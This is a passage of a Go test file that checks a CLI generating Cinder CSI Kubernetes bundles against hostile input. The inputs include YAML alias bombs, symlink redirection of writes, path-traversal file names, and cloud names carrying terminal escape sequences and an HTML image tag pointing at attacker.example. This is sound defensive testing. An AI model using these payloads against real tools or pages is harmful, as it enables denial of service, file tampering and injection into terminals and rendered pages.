	runtime.ReadMemStats(&after)
	if used := (after.TotalAlloc - before.TotalAlloc) >> 20; used > 512 {
		t.Errorf("allocated %d MiB", used)
	}
	if took > 10*time.Second {
		t.Errorf("took %s of a processor", took)
	}
}

// laughs is a document of nine lines that expands to a thousand million values.
func laughs() string {
	text := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'i'; c++ {
		before := "*" + string(c-1)
		text += string(c) + ": &" + string(c) + " [" + before + strings.Repeat(","+before, 9) + "]\n"
	}
	return text
}

// manyKeys is one mapping, indented.
func manyKeys(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "  k%d: \"1\"\n", i)
	}
	return b.String()
}

func TestDocumentsThatExplodeAreRefusedInTimeAndMemory(t *testing.T) {
	object := "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: cinder-csi}\n"
	copies := ""
	for range 40 {
		copies += "- {op: copy, from: /metadata, path: /metadata/x}\n"
	}
	levels := map[string]string{"kustomization.yaml": header + "resources: [level0]\n", "level40/kustomization.yaml": header + "sortOptions: {order: legacy}\n"}
	for i := range 40 {
		levels[fmt.Sprintf("level%d/kustomization.yaml", i)] = fmt.Sprintf("%sresources: [../level%d, ../level%[2]d]\n", header, i+1)
	}
	many := map[string]string{}
	for i := range 2_001 {
		many[fmt.Sprintf("many/%d", i)] = ""
	}
	parts := map[string]string{}
	for i := range 11 {
		parts[fmt.Sprintf("part%d.yaml", i)] = object + "data:\n" + strings.Repeat("- x: y\n", 40_000)
	}
	for name, tc := range map[string]struct {
		format string
		files  map[string]string
	}{
		"aliases in a resource":   {"kustomize", map[string]string{"storageclasses.yaml": object + laughs()}},
		"aliases in a patch":      {"kustomize", map[string]string{"patches/deployment-cinder-csi-controller.yaml": laughs()}},
		"aliases beside a list":   {"kustomize", map[string]string{"kustomization.yaml": header + laughs()}},
		"a patch that copies":     {"kustomize", map[string]string{"patches/configmap-cinder-csi-controller-config.yaml": copies}},
		"aliases in values":       {"helm", map[string]string{"values.yaml": laughs()}},
		"aliases in namespaces":   {"helm", map[string]string{"namespace.yaml": object + laughs()}},
		"a file that is too long": {"helm", map[string]string{"values.yaml": strings.Repeat("#", 17<<20)}},
		"brackets without end":    {"helm", map[string]string{"values.yaml": "x: " + strings.Repeat("[", 1<<20)}},
		"keys without end":        {"kustomize", map[string]string{"storageclasses.yaml": object + "data:\n" + manyKeys(40_000)}},
		"keys of a kustomization": {"kustomize", map[string]string{"kustomization.yaml": "apiVersion: x\nx:\n" + manyKeys(40_000)}},
		"keys of values":          {"helm", map[string]string{"values.yaml": "x:\n" + manyKeys(40_000)}},
		"levels that double":      {"kustomize", levels},
		"a patch named twice":     {"kustomize", map[string]string{"kustomization.yaml": header + "resources: [namespace.yaml]\npatches:\n" + strings.Repeat("- {path: p.yaml}\n", 40_000), "p.yaml": "[]\n"}},
		"files without end":       {"helm", many},
		"keys of all files":       {"kustomize", parts},
		"declared tags":           {"kustomize", map[string]string{"kustomization.yaml": strings.Repeat("%TAG !a! x\n", 40_000) + "---\n" + header}},
		"objects without end":     {"kustomize", map[string]string{"storageclasses.yaml": repeated(5_000, "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x%d, namespace: cinder-csi}\n")}},
		"a list without end":      {"kustomize", map[string]string{"storageclasses.yaml": "apiVersion: v1\nkind: List\nitems:\n" + repeated(5_000, "- {apiVersion: v1, kind: ConfigMap, metadata: {name: x%d}}\n")}},
		"settings without end":    {"kustomize", map[string]string{"storageclasses.yaml": object + "data: {cloud.conf: \"[Global]\\n" + repeated(100_000, "a%d\\n") + "\"}\n"}},
		"unknown settings":        {"kustomize", map[string]string{"storageclasses.yaml": object + "data: {cloud.conf: \"[Global]\\n" + repeated(4_000, "a%d\\n") + "\"}\n"}},
		"items of nothing":        {"kustomize", map[string]string{"kustomization.yaml": header + "resources:\n" + strings.Repeat("-\n", 3<<20-100)}},
	} {
		t.Run(name, func(t *testing.T) {
			dir := bundleOf(t, "vanilla", tc.format)
			forge(t, dir, tc.files)
			bounded(t, func() {
				if _, stderr, code := pipeline(t, "validate", dir); code != cli.Failure || len(stderr) > 4096 {
					t.Errorf("want exit 1 and a short message, got %d: %.500s", code, stderr)
				}
			})
		})
	}
	inventory := testfile.Read(t, "../../../../overlays/inventory.yaml")
	files := t.TempDir()
	for name, text := range map[string]string{
		"aliases": laughs(), "long": strings.Repeat("# x\n", 2<<20), "brackets": strings.Repeat("[", 1<<20),
		"keys": "apiVersion: generator.cinder-csi.io/v1alpha1\nkind: Distribution\nspec:\n" + manyKeys(60_000), "problems": "spec:\n" + manyKeys(1_000),
		"items": "spec: {roles: {controller: {imagePullSecrets: [" + strings.Repeat("x,", 400_000) + "]}}}\n", "pools": "spec:\n  nodePools:\n" + pools(2_000),
		"declared tags": strings.Repeat("%TAG !a! x\n", 40_000) + "--- a", "a text without end": "spec: {credentials: {caBundle: " + strings.Repeat("a", 3<<20) + "}}",
		"aliases of a long text": "spec: {roles: {node: {podAnnotations: {a: &s " + strings.Repeat("x", 256<<10) + repeated(800, ", b%d: *s") + "}}}}",
		"items of nothing":       "spec:\n" + strings.Repeat("-\n", 2<<20-10),
		"aliases in a known key": "spec: {topology: {zoneMap: *i}}\n" + laughs(), "inventory": string(inventory) + laughs(),
	} {
		path := filepath.Join(files, name)
		testfile.Write(t, path, text, 0o644)
		generate(t, path)
	}
	endless := filepath.Join(files, "endless")
	testenv.Must(t, os.Symlink("/dev/zero", endless))
	generate(t, endless)
}

// What a plan.yaml lists is compared with what this run decides.
func TestDecisionsWithoutEndAreComparedInTimeAndMemory(t *testing.T) {
	for name, line := range map[string]string{
		"classes": "- id: storageClass.z%d\n    value: {}\n", "classes with a type": "- id: storageClass.z%d\n    value: {name: z%[1]d, volumeType: {id: z%[1]d, name: z%[1]d}}\n",
		"classes of attributes": "- id: attributesClass.z%d\n    value: {}\n", "unknown": "- id: z%d\n    value: {}\n", "images": "- id: images.z%d\n    value: x\n",
	} {
		for _, n := range []int{7_000, 9_000} {
			t.Run(fmt.Sprintf("%d %s", n, name), func(t *testing.T) {
				dir := bundleOf(t, "vanilla", "helm")
				path := filepath.Join(dir, worktree.PlanFile)
				text := testfile.Read(t, path)
				var more strings.Builder
				more.WriteString("decisions:\n")
				for i := range n {
					fmt.Fprintf(&more, "  "+line, i)
				}
				testfile.Write(t, path, bytes.Replace(text, []byte("decisions:\n"), []byte(more.String()), 1), 0o644)
				bounded(t, func() {
					if _, stderr, code := pipeline(t, "generate", "--inventory", "../../../../overlays/inventory.yaml", "--output-dir", dir, "--check"); code == cli.OK {
						t.Errorf("want a difference, got %d: %.500s", code, stderr)
					}
				})
			})
		}
	}
}

// pools are node pools of a configuration.
func pools(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "  - {name: p%d, nodeSelector: {pool: p%[1]d}}\n", i)
	}
	return b.String()
}

// The sums of plan.yaml are read where a merge left conflicts among them.
func TestConflictsThatExplodeAreRefusedInTimeAndMemory(t *testing.T) {
	paths := ""
	for i := range 40_000 {
		paths += fmt.Sprintf("<<<<<<< a\n  - path: p%d\n=======\n>>>>>>> b\n", i)
	}
	for name, text := range map[string]string{
		"items of nothing":  strings.Repeat("  -\n", 1<<20),
		"sides that double": strings.Repeat("<<<<<<< a\n=======\n>>>>>>> b\n", 40),
		"paths and sums":    paths + strings.Repeat("    sha256: a\n    sha256: b\n", 40_000),
		"sums without end":  "<<<<<<< a\n=======\n>>>>>>> b\n" + sums(150_000),
	} {
		t.Run(name, func(t *testing.T) {
			dir := bundleOf(t, "vanilla", "helm")
			file := filepath.Join(dir, worktree.PlanFile)
			plan := testfile.Read(t, file)
			at := bytes.LastIndex(plan, []byte("# sha256 of"))
			testfile.Write(t, file, slices.Concat(plan[:at], []byte(text), plan[at:]), 0o644)
			bounded(t, func() {
				if _, stderr, code := pipeline(t, "validate", dir); code == cli.OK || len(stderr) > 4096 {
					t.Errorf("want a refusal and a short message, got %d: %.500s", code, stderr)
				}
			})
		})
	}
}

// sums are files with a sum each.
func sums(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "  - path: f%d\n    sha256: b\n", i)
	}
	return b.String()
}

// One blob of a repository may be many files of a checkout.
func TestABundleOfManyLargeFilesIsRefused(t *testing.T) {
	dir := bundleOf(t, "vanilla", "helm")
	files := map[string]string{}
	for i := range 20 {
		files[fmt.Sprintf("large%d", i)] = strings.Repeat("#", 5<<20)
	}
	forge(t, dir, files)
	for _, args := range [][]string{
		{"validate", dir},
		{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", "vanilla", "--format", "helm", "--output-dir", dir, "--check"},
	} {
		bounded(t, func() {
			if _, stderr, code := pipeline(t, args...); code != cli.Failure || !strings.Contains(stderr, "which no bundle has") {
				t.Errorf("%s: want exit 1, got %d: %.500s", args[0], code, stderr)
			}
		})
	}
}

// generate passes a file as configuration and as inventory; the generator refuses both.
func generate(t *testing.T, path string) {
	t.Helper()
	for _, args := range [][]string{
		{"plan", "--target", "vanilla", "--inventory", "../../../../overlays/inventory.yaml", "--config", path},
		{"plan", "--target", "vanilla", "--inventory", path},
	} {
		bounded(t, func() {
			if _, stderr, code := pipeline(t, args...); code != cli.Usage || len(stderr) > 4096 {
				t.Errorf("%v: want exit 64 and a short message, got %d: %.500s", args, code, stderr)
			}
		})
	}
}

func TestALinkInTheCheckoutCannotMoveWhatIsWritten(t *testing.T) {
	inventory := testenv.Value(filepath.Abs("../../../../overlays/inventory.yaml"))(t)
	run := func(dir string) (string, int) {
		_, stderr, code := pipeline(t, "generate", "--inventory", inventory, "--target", "vanilla", "--format", "kustomize", "--output-dir", dir)
		return stderr, code
	}
	victim := t.TempDir()
	t.Chdir(t.TempDir())
	for _, d := range []string{"deploy", "inside", "real"} {
		testenv.Must(t, os.Mkdir(d, 0o755))
	}
	for link, to := range map[string]string{
		"deploy/out": victim, "up": "..", "deploy/in": "../real", // out of the checkout; out of it by a relative path; within it
		"inside/base": victim, // a directory that the bundle would create
	} {
		testenv.Must(t, os.Symlink(to, link))
	}
	here := testenv.Value(os.Getwd())(t)
	for _, dir := range []string{"deploy/out", filepath.Join(here, "deploy/out"), "deploy/out/below", "up", "inside"} {
		if stderr, code := run(dir); code != cli.Refused {
			t.Errorf("%s: want exit 3, got %d: %s", dir, code, stderr)
		}
	}
	if left, err := os.ReadDir(victim); err != nil || len(left) > 0 {
		t.Errorf("the attack wrote %v %v", left, err)
	}
	if stderr, code := run("deploy/in"); code != cli.OK {
		t.Errorf("a link within the checkout: want exit 0, got %d: %s", code, stderr)
	}
	if stderr, code := run(filepath.Join(victim, "named")); code != cli.OK {
		t.Errorf("a directory that the caller names: want exit 0, got %d: %s", code, stderr)
	}
}

func TestALinkInABundleCannotShowAnotherFile(t *testing.T) {
	dir := bundleOf(t, "vanilla", "helm")
	secret := filepath.Join(t.TempDir(), "secret")
	testfile.Write(t, secret, "s3cret: x\n", 0o600)
	testenv.Must(t, os.Remove(filepath.Join(dir, "values.yaml")))
	testenv.Must(t, os.Symlink(secret, filepath.Join(dir, "values.yaml")))
	for _, args := range [][]string{
		{"validate", dir},
		{"explain", "configmap/cinder-csi-controller-settings", "data", dir},
		{"generate", "--inventory", "../../../../overlays/inventory.yaml", "--target", "vanilla", "--format", "helm", "--output-dir", dir, "--diff"},
	} {
		stdout, stderr, code := pipeline(t, args...)
		if code == cli.OK || strings.Contains(stdout+stderr, "s3cret") {
			t.Errorf("%s: want a failure without the file's content, got %d: %s%s", args[0], code, stdout, stderr)
		}
	}
}

func TestFileNamesOfAPlanCannotLeaveTheDirectoryOrSteerATerminal(t *testing.T) {
	for _, name := range []string{"../x", "/etc/hostname", "a/../../x", "a\x1b[2Jb", "a\nb", "a\u202eb", `a\b`, "", ".", "plan.yaml", ".git/HEAD", "base/.env"} {
		dir := bundleOf(t, "vanilla", "helm")
		opened := testenv.Value(worktree.Open(dir))(t)
		opened.Plan.Files = append(opened.Plan.Files, v1alpha1.File{Path: name})
		text := testenv.Value(worktree.PlanText(*opened.Plan))(t)
		testfile.Write(t, filepath.Join(dir, worktree.PlanFile), text, 0o644)
		_, stderr, code := pipeline(t, "validate", dir)
		if code != cli.Failure || !strings.Contains(stderr, "which is no file of a bundle") || steers(stderr) {
			t.Errorf("%q: want exit 1 and a harmless message, got %d: %q", name, code, stderr)
		}
	}
}

// steers reports whether a text has characters that control a terminal.
func steers(text string) bool {
	return strings.ContainsFunc(text, func(r rune) bool { return r != '\n' && r != '\t' && !unicode.IsPrint(r) })
}

// Names of a cloud, or of a file that claims to be its inventory, reach a terminal, a README and comments of a pull request.
func TestNamesOfACloudCannotSteerATerminalOrAPage(t *testing.T) {
	const evil = "\x1b]0;owned\x07\u009b2J\u202e\r\n# heading\t<img src=http://attacker.example/x>[x](http://attacker.example)`|"
	const words = "\u202e <img src=http://attacker.example/x>[x](http://attacker.example)`|"
	poison := func(inv *v1alpha1.Inventory) {
		inv.Cloud.Region, inv.Cloud.ProjectID = words, evil
		for i := range inv.VolumeTypes.Value {
			v := &inv.VolumeTypes.Value[i]
			v.Name += []string{evil, words, "${X}", "\u009b", "PRIVATE KEY", ""}[i%6]
			v.Description = evil
			v.Zones = append(v.Zones, evil, "az1")
			v.Encryption.Value.Provider = evil
		}
		inv.DefaultVolumeType.Value += evil
		inv.Zones.Compute.Value[0].Name += evil
		inv.Zones.Volume.Value[0].Name += evil
		inv.Quota.State, inv.Quota.Reason = v1alpha1.Denied, evil
		for name, s := range inv.Services.Value {
			s.MaxMicroversion += evil
			inv.Services.Value[name] = s
		}
	}
	content := testfile.Read(t, "../../../../overlays/inventory.yaml")
	inv := testenv.Value(v1alpha1.DecodeInventory("inventory.yaml", content))(t)
	poison(&inv)
	content = testenv.Value(v1alpha1.YAML(inv))(t)
	path := filepath.Join(t.TempDir(), "inventory.yaml")
	testfile.Write(t, path, content, 0o644)
	dir := filepath.Join(t.TempDir(), "out")
	for _, args := range [][]string{
		{"inspect", "--inventory", path},
		{"inspect", "--inventory", path, "-o", "yaml"},
		{"inspect", "--inventory", path, "-o", "json"},
		{"plan", "--inventory", path, "--target", "vanilla"},
		{"plan", "--inventory", path, "--target", "vanilla", "-o", "yaml"},
		{"generate", "--inventory", path, "--target", "vanilla", "--format", "helm", "--output-dir", dir},
		{"generate", "--inventory", path, "--target", "vanilla", "--format", "helm", "--output-dir", dir + "2", "--diff"},
		{"validate", dir},
		{"explain", "configmap/cinder-csi-controller-config", "data", dir},
		{"explain", "storageclass/" + evil, evil, dir},
		{"plan", "--inventory", evil, "--target", evil},
	} {
		stdout, stderr, code := pipeline(t, args...)
		if code != cli.OK && args[0] == "generate" && !slices.Contains(args, "--diff") {
			t.Fatalf("exit %d: %s", code, stderr)
		}
		for stream, text := range map[string]string{"stdout": stdout, "stderr": stderr} {
			data := slices.Contains(args, "-o") && stream == "stdout" // YAML and JSON for programs; no raw control character there either
			if data && strings.ContainsAny(text, "\x1b\x07\r\u009b\u202e") || !data && steers(text) {
				t.Errorf("%.40q: %s steers a terminal: %.300q", args, stream, text)
			}
		}
	}
	entries := testenv.Value(os.ReadDir(dir))(t)
	for _, e := range entries {
		text := testfile.Read(t, filepath.Join(dir, e.Name()))
		if strings.ContainsAny(string(text), "\x1b\x07\r\u009b\u202e") {
			t.Errorf("%s holds raw control characters", e.Name())
		}
		if e.Name() != "README.md" {
			continue
		}
		// Markdown interprets nothing between backquotes, nor in lines of four blanks that follow a paragraph. After an item of a list they would be its text.
		blocks := regexp.MustCompile(`(\n[^-*+>\s0-9][^\n]*\n\n)(?:    [^\n]*\n)+`).ReplaceAllString(string(text), "$1")
		marked := regexp.MustCompile("`[^`\n]*`").ReplaceAllString(blocks, "")
		if steers(string(text)) || strings.Contains(marked, "<img") || strings.Contains(marked, "[x](") || strings.Contains(string(text), "\n# heading") {
			t.Errorf("README.md is more than text:\n%s", text)
		}
	}
}

// Every command that writes a file which its caller names, below a checkout with links in place of the file and of its directory.
func TestALinkInTheCheckoutCannotMoveAFileThatACommandWrites(t *testing.T) {
	inventory := testenv.Value(filepath.Abs("../../../../overlays/inventory.yaml"))(t)
	home := t.TempDir()
	profile, conf := filepath.Join(home, ".profile"), filepath.Join(home, "cloud.conf")
	for file, text := range map[string]string{profile: "mine\n", conf: "[Global]\nauth-url = https://keystone.example.com/v3\nusername = u\npassword = p\ntenant-id = t\ndomain-name = d\n"} {
		testfile.Write(t, file, text, 0o644)
	}
	t.Chdir(t.TempDir())
	testenv.Must(t, errors.Join(os.WriteFile("hook", nil, 0o755), os.Mkdir("prod", 0o755)))
	here := testenv.Value(os.Getwd())(t)
	for link, to := range map[string]string{"saved.yaml": profile, "sub": home, "inside.yaml": "hook", "prod/.x": "../hook"} {
		testenv.Must(t, os.Symlink(to, link))
	}
	for name, command := range map[string][]string{
		"inspect": {"inspect", "--inventory", inventory, "--save"},
		"import":  {"import", conf, "--clouds-yaml"},
	} {
		for _, file := range []string{"saved.yaml", "sub/new.yaml"} {
			_, stderr, code := pipeline(t, append(slices.Clone(command), file)...)
			if code != cli.Usage || !strings.Contains(stderr, "leads out of the checkout") {
				t.Errorf("%s to %s: want exit 64, got %d: %s", name, file, code, stderr)
			}
		}
		if _, stderr, code := pipeline(t, append(slices.Clone(command), "inside.yaml")...); code != cli.Usage {
			t.Errorf("%s to a link inside of the checkout: want exit 64, got %d: %s", name, code, stderr)
		}
		for dir, file := range map[string]string{"prod": "../inside.yaml", ".": filepath.Join(here, "prod/.x")} {
			t.Chdir(filepath.Join(here, dir))
			if _, stderr, code := pipeline(t, append(slices.Clone(command), file)...); code != cli.Usage {
				t.Errorf("%s to the link %s: want exit 64, got %d: %s", name, file, code, stderr)
			}
		}
		t.Chdir(here)
		if info, err := os.Stat("hook"); err != nil || info.Size() > 0 {
			t.Errorf("%s wrote through a link: %v", name, err)
		}
		if _, stderr, code := pipeline(t, append(slices.Clone(command), name+".yaml")...); code != cli.OK {
			t.Errorf("%s to a file of the checkout: want exit 0, got %d: %s", name, code, stderr)
		}
	}
	if text, err := os.ReadFile(profile); err != nil || string(text) != "mine\n" {
		t.Errorf("a file outside of the checkout now begins with %.45q (%v)", text, err)
	}
	if _, err := os.Stat(filepath.Join(home, "new.yaml")); err == nil {
		t.Error("a file was made outside of the checkout")
	}
}

// A note of import is one line. A name with a line feed does not begin another, which would look like one of the generator's own.
func TestANameInAFileForImportBeginsNoLineOfItsOwn(t *testing.T) {
	const words = "the proposal is complete"
	manifest := filepath.Join(t.TempDir(), "installed.yaml")
	text := `{apiVersion: apps/v1, kind: Deployment, metadata: {name: "x\n` + words + `", namespace: "a\n` + words + `"}, spec: {template: {spec: {containers: [
{name: "c\n` + words + `", image: registry.k8s.io/provider-os/cinder-csi-plugin:v1.31.0, args: [/bin/cinder-csi-plugin, --cluster=c1, "--x\n` + words + `=1"], env: [{name: "A\n` + words + `", value: x}]}]}}}}`
	testfile.Write(t, manifest, text, 0o644)
	_, stderr, _ := pipeline(t, "import", manifest)
	if !strings.Contains(stderr, words) {
		t.Fatalf("the names are in no note:\n%s", stderr)
	}
	for line := range strings.Lines(stderr) {
		if strings.HasPrefix(line, words) {
			t.Errorf("got the line %q", line)
		}
	}
}
